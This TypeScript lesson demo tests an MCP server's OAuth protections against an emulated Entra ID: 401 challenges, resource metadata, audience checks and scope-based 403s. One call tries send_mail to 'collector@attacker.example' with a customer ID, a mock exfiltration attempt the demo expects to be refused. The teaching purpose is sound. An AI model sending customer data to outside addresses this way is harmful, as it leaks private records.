/**
 * Lesson 4's demo, run by `npm run lesson:4` once the server listens. Plain HTTP, as a client sees it:
 * the 401 and its challenge, the Protected Resource Metadata, a genuine Microsoft Graph token that is
 * refused, then a token for our API (the daemon's client credentials, offline) that works for reading
 * and is refused for sending mail. It ends with how to sign in from MCP Inspector.
 *
 * It never throws: when a step shows that a TODO is not done yet, it says which one and stops.
 */
import { ConfidentialClientApplication } from '@azure/msal-node';
import { APPS } from '../shared/emulator/directory.ts';
import type { DemoContext } from '../shared/lab/demo.ts';
import { INSPECTOR_COMMAND } from '../shared/lab/lessons.ts';

const FOLDER = 'lessons/04-resource-server';

export interface Reply {
  status: number;
  challenge: string;
  text: string;
}

export async function demo(ctx: DemoContext): Promise<void> {
  const { log, mcpUrl, config } = ctx;
  const stuck = (what: string, todo: string, file: string) => log(`${what} Finish ${todo} in ${FOLDER}/${file}, then run: npm run check:4`);

  // 1. No token at all.
  const anonymous = await callTool(mcpUrl, undefined, 'whoami');
  if (anonymous.status !== 401) return stuck(`Without a token, POST /mcp answered HTTP ${anonymous.status}, not 401: anyone can still call the tools.`, 'TODO 4.1', 'app.ts');
  log(`Without a token: HTTP 401 with WWW-Authenticate: ${anonymous.challenge}`);

  // 2. The metadata the challenge points at.
  const prmUrl = /resource_metadata="([^"]+)"/.exec(anonymous.challenge)?.[1];
  if (!prmUrl) return stuck('The 401 does not point at the Protected Resource Metadata (resource_metadata="…").', 'TODO 4.1', 'app.ts');
  const prm = await fetchJson(prmUrl);
  if (!prm) return stuck(`GET ${prmUrl} returned no metadata.`, 'TODO 4.1', 'app.ts');
  log(`GET ${prmUrl}:`);
  for (const [name, value] of Object.entries(prm)) log(`    ${name}: ${JSON.stringify(value)}`);
  log('A client now knows which authorization server to ask (Entra ID), for which resource, with which scopes.');

  if (config.mode !== 'offline') {
    log('With a real tenant the rest of this demo needs a signed-in user: use MCP Inspector as shown below.');
    return inspectorHelp(ctx);
  }

  // 3. A genuine Graph token from our own tenant: signed by Entra, but not for us.
  const daemon = new ConfidentialClientApplication({
    auth: { clientId: APPS.daemon.clientId, clientSecret: APPS.daemon.secrets[0], ...config.entra.msal },
  });
  const graphToken = await daemon.acquireTokenByClientCredential({ scopes: ['https://graph.microsoft.com/.default'] });
  const withGraphToken = await callTool(mcpUrl, graphToken?.accessToken, 'whoami');
  if (withGraphToken.status >= 500) return stuck(`A Graph token made the server answer ${withGraphToken.status}: the verifier must refuse with InvalidTokenError.`, 'TODO 4.2', 'verifier.ts');
  if (withGraphToken.status !== 401) return stuck(`A token for Microsoft Graph was accepted (HTTP ${withGraphToken.status}): check the audience.`, 'TODO 4.2', 'verifier.ts');
  log(`A genuine Microsoft Graph token from the same tenant: HTTP 401 (${describe(withGraphToken.challenge)}).`);
  log('It is for Graph (aud https://graph.microsoft.com), not this API, and signed with a key only Graph can check.');

  // 4. A token for this API: the nightly report job's client credentials (app role Tools.Read.All).
  const apiToken = await daemon.acquireTokenByClientCredential({ scopes: [`${config.entra.apiAppIdUri}/.default`] });
  const read = await callTool(mcpUrl, apiToken?.accessToken, 'lookup_customer', { customerId: 'C-1001' });
  if (read.status !== 200 || /"isError":true/.test(read.text)) {
    return stuck(`The daemon's token for this API was not accepted (HTTP ${read.status}${read.challenge ? `, ${describe(read.challenge)}` : ''}).`, 'TODOs 4.2–4.4', 'verifier.ts and scopes.ts');
  }
  log(`The daemon's own token for this API (app role Tools.Read.All, no user): lookup_customer C-1001 works, HTTP ${read.status}.`);

  const send = await callTool(mcpUrl, apiToken?.accessToken, 'send_mail', { to: 'collector@attacker.example', subject: 'C-1001', body: 'x' });
  if (send.status !== 403) return stuck(`send_mail with the daemon's token answered HTTP ${send.status}, not 403: an app-only caller has no mail.send.`, 'TODO 4.4', 'scopes.ts');
  log(`The same token on send_mail: HTTP 403, WWW-Authenticate: ${send.challenge}`);
  log('A user\'s client would now ask for that scope and retry (step-up); an app without the role cannot.');
  inspectorHelp(ctx);
}

export function inspectorHelp({ log, mcpUrl, config }: DemoContext): void {
  const scopes = ['tools.read', 'mail.send'].map((name) => `${config.entra.apiAppIdUri}/${name}`).join(' ');
  log(`Sign in as a user from MCP Inspector 2.x (${INSPECTOR_COMMAND}, Node.js 22.19+):`);
  log(`    Add Servers → + Add manually: Transport streamable-http, URL ${mcpUrl.href} (or use the card you have)`);
  log(`    On its card, Settings → OAuth Settings: Clear stored OAuth state; Client ID ${config.entra.mcpClientId} (pre-registered: Entra ID has no dynamic registration)`);
  // Entra ID issues a refresh token only for offline_access: without it, a new sign-in every hour.
  log(`    Scopes: ${scopes}${config.mode === 'tenant' ? ' offline_access' : ''}`);
  log(`    Flip its switch, then pick ${config.mode === 'offline' ? 'Ada (admin) or Grace on the emulator\'s sign-in page' : 'your account'}; under Tools try whoami, my_profile and send_mail.`);
  log('To watch step-up, edit the server in Inspector to ask for tools.read only, and clear its OAuth state:');
  log(`    Scopes: ${config.entra.apiAppIdUri}/tools.read${config.mode === 'tenant' ? ' offline_access' : ''}`);
  log('    whoami works; send_mail gets 403 insufficient_scope with scope="…/mail.send …/tools.read", and the client');
  log('    starts a new sign-in for those scopes. Consent to mail.send, and the same call goes through.');
}

export async function callTool(mcpUrl: URL, token: string | undefined, name: string, args: Record<string, unknown> = {}): Promise<Reply> {
  const response = await fetch(mcpUrl, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      ...(token ? { authorization: `Bearer ${token}` } : {}),
    },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } }),
  });
  return { status: response.status, challenge: response.headers.get('www-authenticate') ?? '', text: await response.text() };
}

async function fetchJson(url: string): Promise<Record<string, unknown> | undefined> {
  try {
    const response = await fetch(url);
    return response.ok ? ((await response.json()) as Record<string, unknown>) : undefined;
  } catch {
    return undefined;
  }
}

/** The error and its description from a challenge, for one short line. */
export function describe(challenge: string): string {
  const error = /error="([^"]*)"/.exec(challenge)?.[1];
  const description = /error_description="([^"]*)"/.exec(challenge)?.[1];
  return [error, description].filter(Boolean).join(': ') || 'no challenge';
}
